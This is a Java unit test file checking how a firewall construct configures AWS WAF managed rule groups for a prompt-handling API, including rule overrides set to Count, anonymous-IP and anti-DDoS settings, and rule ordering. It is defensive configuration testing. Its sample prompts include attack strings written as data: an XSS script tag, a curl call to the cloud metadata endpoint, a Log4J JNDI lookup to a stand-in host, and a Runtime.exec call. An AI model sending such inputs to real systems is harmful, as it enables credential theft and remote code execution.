package io.portcullis.constructs.firewall;

import static io.portcullis.constructs.Json.json;
import static org.assertj.core.api.Assertions.assertThat;

import io.portcullis.constructs.Json;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;

class ManagedRuleGroupTest {
  private final FirewallStack template = new FirewallStack();

  /** AWS's rules that look into a body, and a prompt that each would block. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "COMMON_RULES     | SizeRestrictions_BODY       | a prompt of 60 KB",
        "COMMON_RULES     | CrossSiteScripting_BODY     | <script>alert(1)</script>, why does it not run?",
        "COMMON_RULES     | GenericLFI_BODY             | import { x } from '../../lib/x'",
        "COMMON_RULES     | GenericRFI_BODY             | summarise http://192.0.2.1/report.php",
        "COMMON_RULES     | EC2MetaDataSSRF_BODY        | curl http://169.254.169.254/latest/meta-data/",
        "KNOWN_BAD_INPUTS | Log4JRCE_BODY               | what does ${jndi:ldap://example.org/a} do?",
        "KNOWN_BAD_INPUTS | JavaDeserializationRCE_BODY | Runtime.getRuntime().exec(command)",
        "KNOWN_BAD_INPUTS | ReactJSRCE_BODY             | what is __proto__ in JavaScript?"
      })
  void refusesNoPrompt_forWhatItSays(ManagedRuleGroup group, String rule, String prompt) {
    template.firewall().build();

    assertThat(
            Json.list(
                template
                    .rule(group)
                    .at("/Statement/ManagedRuleGroupStatement/RuleActionOverrides")))
        .as(prompt)
        .contains(json("{ \"Name\": \"%s\", \"ActionToUse\": { \"Count\": {} } }".formatted(rule)));
  }

  @Test
  void hasNoGroupThatReadsBodiesForAnotherKindOfApplication() {
    assertThat(ManagedRuleGroup.values())
        .extracting(ManagedRuleGroup::awsName)
        .noneMatch(name -> name.matches(".*(SQLi|PHP|Linux|Unix|Windows|WordPress|Bot).*"));
  }

  @Test
  void everyRuleThatCountsForGood_hasAReason() {
    assertThat(ManagedRuleGroup.values())
        .flatExtracting(ManagedRuleGroup::overrides)
        .allMatch(override -> override.reason().length() > 20);
  }

  @Test
  void admitsCallersFromHostingProviders_andRefusesAnonymousOnes() {
    template.firewall().managedRuleGroups(List.of(ManagedRuleGroup.ANONYMOUS_IP)).build();

    assertThat(Json.json(template.rule(ManagedRuleGroup.ANONYMOUS_IP).get("Statement")))
        .isEqualTo(
            json(
                """
                { "ManagedRuleGroupStatement": {
                  "VendorName": "AWS",
                  "Name": "AWSManagedRulesAnonymousIpList",
                  "RuleActionOverrides": [
                    { "Name": "HostingProviderIPList", "ActionToUse": { "Count": {} } } ] } }
                """));
  }

  @Test
  void challengesNobody_becauseNoApiClientCanSolveAChallenge() {
    template.firewall().managedRuleGroups(List.of(ManagedRuleGroup.ANTI_DDOS)).build();

    assertThat(Json.json(template.rule(ManagedRuleGroup.ANTI_DDOS).get("Statement")))
        .isEqualTo(
            json(
                """
                { "ManagedRuleGroupStatement": {
                  "VendorName": "AWS",
                  "Name": "AWSManagedRulesAntiDDoSRuleSet",
                  "ManagedRuleGroupConfigs": [ { "AWSManagedRulesAntiDDoSRuleSet": {
                    "ClientSideActionConfig": { "Challenge": { "UsageOfAction": "DISABLED" } },
                    "SensitivityToBlock": "LOW" } } ] } }
                """));
  }

  @Test
  void refusesAddressesThatAwsKnowsToBeMalicious() {
    template.firewall().build();

    assertThat(Json.json(template.rule(ManagedRuleGroup.IP_REPUTATION).get("Statement")))
        .isEqualTo(
            json(
                """
                { "ManagedRuleGroupStatement": {
                  "VendorName": "AWS", "Name": "AWSManagedRulesAmazonIpReputationList" } }
                """));
  }

  @ParameterizedTest
  @EnumSource
  void isTakenInTheVersionThatAwsRecommends(ManagedRuleGroup group) {
    template.firewall().managedRuleGroups(List.of(group)).build();

    assertThat(template.rule(group).at("/Statement/ManagedRuleGroupStatement").has("Version"))
        .isFalse();
  }

  @ParameterizedTest
  @EnumSource
  void refuses_byDefault(ManagedRuleGroup group) {
    template.firewall().managedRuleGroups(List.of(group)).build();

    assertThat(Json.json(template.rule(group).get("OverrideAction")))
        .isEqualTo(json("{ \"None\": {} }"));
  }

  @Test
  void countedGroup_letsPassWhatItMatches_andOthersStillRefuse() {
    template.firewall().countedGroups(Set.of(ManagedRuleGroup.COMMON_RULES)).build();

    assertThat(Json.json(template.rule(ManagedRuleGroup.COMMON_RULES).get("OverrideAction")))
        .isEqualTo(json("{ \"Count\": {} }"));
    assertThat(Json.json(template.rule(ManagedRuleGroup.IP_REPUTATION).get("OverrideAction")))
        .isEqualTo(json("{ \"None\": {} }"));
  }

  @Test
  void isTakenOnce_whateverTheOrder() {
    template
        .firewall()
        .managedRuleGroups(
            List.of(
                ManagedRuleGroup.COMMON_RULES,
                ManagedRuleGroup.IP_REPUTATION,
                ManagedRuleGroup.COMMON_RULES))
        .build();

    assertThat(template.ruleNames())
        .endsWith("AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesCommonRuleSet")
        .doesNotHaveDuplicates();
  }
}
